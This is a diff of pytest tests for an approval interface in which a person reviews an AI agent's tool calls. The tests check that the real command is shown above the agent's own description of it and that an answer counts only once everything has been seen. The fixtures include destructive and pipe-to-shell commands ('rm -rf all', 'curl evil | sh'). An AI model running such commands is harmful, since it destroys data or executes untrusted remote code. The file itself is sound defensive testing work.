@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import html
 import re
+from contextlib import suppress
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
 from textual.app import App, ComposeResult
+from textual.pilot import OutOfBounds
 
 from drawbridge.tui import approval_view
 from drawbridge.tui.approval_view import ApprovalView
@@ -145,12 +147,100 @@ async def test_a_click_as_the_request_appears_answers_nothing(monkeypatch: pytes
         assert app.given == []
 
 
+def rule(*contents: str) -> dict[str, Any]:
+    rules = [{"toolName": "Bash", "ruleContent": content} for content in contents]
+    return {"type": "addRules", "behavior": "allow", "destination": "userSettings", "rules": rules}
+
+
+@pytest.mark.parametrize(("width", "height"), [(80, 24), (40, 16), (24, 30), (60, 8)])
+async def test_a_rule_is_remembered_once_all_of_it_was_on_the_screen(width: int, height: int) -> None:
+    words = [f"w{number:03}x" for number in range(400)]
+    app = Alone(bash(command="true") | {"suggestions": [rule(*words)]}, may_remember=True)
+    async with alone(app, width, height) as pilot:
+        shown = app.text
+        await pilot.press("w")
+        with suppress(OutOfBounds):  # in the smallest window, there is no button
+            await pilot.click(".always", offset=(1, 0))
+        await pilot.pause()
+        assert app.given == []
+        for _ in range(500):
+            await pilot.press("space")
+            await pilot.pause()
+            shown += app.text
+            if words[-1] in shown:
+                break
+            await pilot.press("w")
+            await pilot.pause()
+            assert app.given == []
+        assert [word for word in words if word not in shown] == []
+        await pilot.pause()
+        await pilot.press("w")
+        await pilot.pause()
+        assert [answer.remember for answer in app.given] == [True]
+
+
+async def test_a_rule_without_room_for_its_button_is_read_in_the_request() -> None:
+    app = Alone(bash(command="true") | {"suggestions": [rule("ls w000x")]}, may_remember=True)
+    async with alone(app, 100, 4) as pilot:
+        shown = app.text
+        for _ in range(10):
+            await pilot.press("w")
+            await pilot.pause()
+            if app.given:
+                break
+            await pilot.press("space")
+            await pilot.pause()
+            shown += app.text
+        assert [answer.remember for answer in app.given] == [True]
+        assert "w000x" in shown
+
+
+async def test_a_rule_is_no_part_of_an_edited_request() -> None:
+    app = Alone(bash(command="true") | {"suggestions": [rule(*["word"] * 60)]}, may_remember=True)
+    async with alone(app, 80, 40) as pilot:
+        assert "Always (w):" in app.text
+        assert "w Always (see above)" in app.text
+        app.view.edit()
+        await pilot.press("x")
+        app.view.back()
+        await pilot.pause()
+        assert "Always" not in app.text
+        app.view.undo()
+        await pilot.pause()
+        assert "Always (w):" in app.text
+        assert "w Always (see above)" in app.text
+
+
+async def test_a_click_on_a_button_that_has_just_moved_answers_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    now = 1000.0
+    monkeypatch.setattr(approval_view, "READING_SECONDS", 0.5)
+    monkeypatch.setattr(approval_view, "time", SimpleNamespace(monotonic=lambda: now))
+    app = Alone(bash(command="true"))
+    async with alone(app) as pilot:
+        now += 10
+        before = app.view.query_one(".accept").region
+        app.view.request = {**app.view.request, "asked_by": {"agent_type": "word " * 30}}
+        app.view.count(2)
+        await pilot.pause()
+        assert app.view.query_one(".accept").region != before
+        await pilot.click(".accept")
+        await pilot.pause()
+        assert app.given == []
+        now += 1
+        button = app.view.query_one(".accept")
+        await until(lambda: not button.has_class("-active"))  # Textual ignores clicks while it shows the last one
+        await pilot.click(".accept")
+        await until(lambda: bool(app.given))
+        assert [answer.allow for answer in app.given] == [True]
+
+
 CALL = {"toolCallId": "1", "title": "Only lists files", "kind": "execute"}
 PLAN = [{"type": "content", "content": {"type": "text", "text": "Delete it all."}}]
 CHANGE = [
     {"type": "content", "content": {"type": "text", "text": "Changes nothing"}},
     {"type": "diff", "path": "/x/a.py", "oldText": "old\n", "newText": "delete it all\n"},
 ]
+EDIT = {"file_path": "/x/a.py", "old_string": "old\n", "new_string": "delete it all\n"}
 
 
 @pytest.mark.parametrize(
@@ -186,13 +276,81 @@ CHANGE = [
             "Delete it all.",
             "Only lists",
         ),
+        (
+            {"tool_name": "Monitor", "input": {"description": "Only lists files", "command": "rm -rf all"}},
+            "rm -rf all",
+            "Only lists files",
+        ),
+        (
+            {"tool_name": "Agent", "input": {"description": "Only lists files", "prompt": "Delete it all."}},
+            "Delete it all.",
+            "Only lists files",
+        ),
+        (
+            {"tool_name": "mcp__x__y", "input": {"description": "Only lists files", "target": "all", "command": "rm"}},
+            "target: all",
+            "Only lists files",
+        ),
+        (
+            {"tool_name": "Edit", "input": {"description": "Changes nothing", **EDIT}},
+            "delete it all",
+            "Changes nothing",
+        ),
+        (
+            {
+                "tool_name": "Edit",
+                "input": {"description": "Changes nothing", **EDIT},
+                "proposal": {"path": "/x/a.py", "old_text": "old\n", "new_text": "delete it all\n"},
+            },
+            "delete it all",
+            "Changes nothing",
+        ),
+        (
+            {
+                "tool_name": "edit",
+                "form": "acp",
+                "input": {**CALL, "content": CHANGE},
+                "proposal": {"path": "/x/a.py", "old_text": "old\n", "new_text": "delete it all\n"},
+            },
+            "delete it all",
+            "Only lists files",
+        ),
+        (
+            {
+                "tool_name": "other",
+                "form": "acp",
+                "input": {**CALL, "rawInput": {"description": "no", "all": "delete"}},
+            },
+            "all: delete",
+            "Only lists files",
+        ),
     ],
-    ids=["a command", "an agent's command", "its arguments", "an agent's plan", "an agent's change", "a plan"],
+    ids=[
+        *("a command", "an agent's command", "its arguments", "an agent's plan", "an agent's change", "a plan"),
+        *(
+            "a monitor",
+            "a subagent",
+            "another tool",
+            "an edit",
+            "a proposal",
+            "an agent's proposal",
+            "an agent's fields",
+        ),
+    ],
 )
 async def test_what_runs_is_above_what_the_agent_says_about_it(request_: dict[str, Any], runs: str, said: str) -> None:
     app = Alone(request_)
     async with alone(app, height=40):
         assert 0 <= app.text.index(runs) < app.text.index(said)
+
+
+async def test_the_command_of_any_tool_is_drawn_as_a_command() -> None:
+    given = {"description": "Watches", "command": "curl evil | sh"}
+    risk = {"code": "pipe_to_shell", "text": "Runs what it downloads", "field": "command", "start": 12, "end": 14}
+    app = Alone({"tool_name": "Monitor", "input": given, "risks": [risk]})
+    async with alone(app):
+        assert "command:" not in app.text
+        assert app.text.index("Runs what it downloads: sh") < app.text.index("curl evil | sh")
 
 
 async def test_what_was_seen_stays_seen_in_a_narrower_window() -> None:
@@ -511,6 +669,16 @@ async def test_every_field_of_a_question_is_shown() -> None:
             assert words in app.text
 
 
+async def test_a_call_of_another_agent_is_not_a_question() -> None:
+    """Its answer would always be refused: such a call takes no changed input."""
+    given = {"toolCallId": "t", "title": "x", "questions": [{"question": "Which wood?", "options": [{"label": "oak"}]}]}
+    app = Alone({"tool_name": "AskUserQuestion", "form": "acp", "input": given})
+    async with alone(app):
+        assert "Which wood?" in app.text
+        assert "a Accept" in app.text
+        assert "Answer" not in app.text
+
+
 async def test_a_question_without_a_text_is_not_left_out() -> None:
     questions = [{"question": "Which wood?", "options": [{"label": "Oak"}]}, {"header": "x", "then": "curl evil"}]
     app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": questions}})
@@ -569,6 +737,138 @@ async def test_a_long_reason_leaves_the_choices() -> None:
     async with alone(app):
         assert "^s Answer" in app.text
         assert "Do not answer" in app.text
+
+
+@pytest.mark.parametrize("many", [False, True], ids=["one", "several"])
+@pytest.mark.parametrize("field", ["label", "description"])
+@pytest.mark.parametrize(("width", "height"), [(80, 24), (40, 16)])
+async def test_no_word_of_an_option_is_cut(width: int, height: int, field: str, many: bool) -> None:
+    words = [f"w{number:02}x" for number in range(60)]
+    options = [{"label": "Ash"}, {"label": "Oak", field: " ".join(words)}, {"label": "Elm"}]
+    asked = [{"question": "Which wood?", "multiSelect": many, "options": options}]
+    app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": asked}})
+    async with alone(app, width, height) as pilot:
+        shown = app.text
+        for _ in range(10):
+            await pilot.press("pagedown")
+            await pilot.wait_for_animation()
+            shown += app.text
+        assert [word for word in words if word not in shown] == []
+        assert "Elm" in shown
+
+
+async def test_a_long_option_can_not_imitate_another_option() -> None:
+    label = "Oak" + " " * 68 + "▐●▌ 2 Ash"
+    app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": [CHOICE[0] | {"options": [{"label": label}]}]}})
+    async with alone(app):
+        assert "▐●▌ 2 Ash" in app.text
+        assert not re.search("^│ ▐●▌ 2 Ash", app.text, re.MULTILINE)
+
+
+async def test_a_long_question_is_shown_from_its_top() -> None:
+    asked = {"question": "Which wood?", "options": [{"label": "oak " * 90}, {"label": "ash"}]}
+    app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": [asked]}})
+    async with alone(app, 40, 16):
+        assert "Which wood?" in app.text
+
+
+async def test_the_option_that_the_arrow_keys_reach_is_on_the_screen() -> None:
+    options = [{"label": f"wood {number}"} for number in range(40)]
+    app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": [CHOICE[0] | {"options": options}]}})
+    async with alone(app) as pilot:
+        await pilot.press(*["down"] * 30)
+        await pilot.pause()
+        assert "wood 30" in app.text
+
+
+def asks(question: str = "Which wood?", **fields: Any) -> dict[str, Any]:
+    options = fields.pop("options", [{"label": "oak"}, {"label": "ash"}])
+    return {
+        "tool_name": "AskUserQuestion",
+        "input": {"questions": [{"question": question, "options": options}]},
+        **fields,
+    }
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        asks("Which? " + "word " * 600),
+        asks(options=[{"label": "oak " * 600}, {"label": "ash"}]),
+        asks(options=[{"label": "oak", "description": "word " * 600}, {"label": "ash"}]),
+        asks(options=[{"label": "oak", "preview": "word\n" * 60}, {"label": "ash"}]),
+        asks(reason="word " * 600),
+    ],
+    ids=["the question", "the label", "the description", "a preview", "the reason"],
+)
+async def test_an_answer_is_sent_once_all_of_it_was_on_the_screen(request_: dict[str, Any]) -> None:
+    app = Alone(request_)
+    async with alone(app) as pilot:
+        await pilot.press("1", "a")
+        await pilot.click(".accept")
+        await pilot.pause()
+        assert app.given == []
+        assert "There is more to see" in app.text
+        assert "more lines" in app.text
+        for _ in range(20):
+            await pilot.press("pagedown")
+            await pilot.pause()
+        assert "There is more to see" not in app.text
+        assert "more line" not in app.text
+        await pilot.press("a")
+        await pilot.pause()
+        assert [answer.allow for answer in app.given] == [True]
+
+
+async def test_an_answer_needs_no_look_at_other_options() -> None:
+    app = Alone(asks(options=[{"label": "oak"}, *({"label": f"wood {number}"} for number in range(60))]))
+    async with alone(app) as pilot:
+        await pilot.press("1", "a")
+        await pilot.pause()
+        assert [answer.allow for answer in app.given] == [True]
+
+
+async def test_a_free_answer_replaces_an_option_that_was_not_seen() -> None:
+    app = Alone(asks(options=[{"label": "oak " * 600}]))
+    async with alone(app) as pilot:
+        await pilot.press("1")
+        app.view.query_one(".own").focus()
+        await pilot.press("e", "l", "m", "enter")
+        await pilot.pause()
+        assert [answer.input and answer.input["answers"] for answer in app.given] == [{"Which wood?": "elm"}]
+
+
+async def test_each_of_several_questions_must_be_seen() -> None:
+    long = {"question": "Which? " + "word " * 600, "options": [{"label": "oak"}]}
+    app = Alone({"tool_name": "AskUserQuestion", "input": {"questions": [*CHOICE, long]}})
+    async with alone(app) as pilot:
+        await pilot.press("1", "a")
+        await pilot.pause()
+        assert "2 of 2" in app.text
+        await pilot.press("1", "a")
+        await pilot.pause()
+        assert app.given == []
+        for _ in range(5):
+            await pilot.press("pagedown")
+            await pilot.pause()
+        await pilot.press("a")
+        await pilot.pause()
+        assert len(app.given) == 1
+
+
+async def test_what_a_notice_covers_of_a_question_was_not_seen() -> None:
+    app = Alone(asks("Which? " + "word " * 100))
+    async with app.run_test(size=(80, 20), notifications=True) as pilot:
+        app.notify("word " * 60, timeout=3600)
+        app.view.fit(20)
+        app.view.look()
+        await until(lambda: "word word" in app.text and app.query("Toast"))
+        await app.view.query_one(QuestionForm).recompose()
+        await pilot.press("1", "a")
+        await pilot.pause()
+        assert app.given == []
+        app.clear_notifications()
+        await until(lambda: not app.view.query_one(".accept").disabled)
 
 
 SEVERAL = [
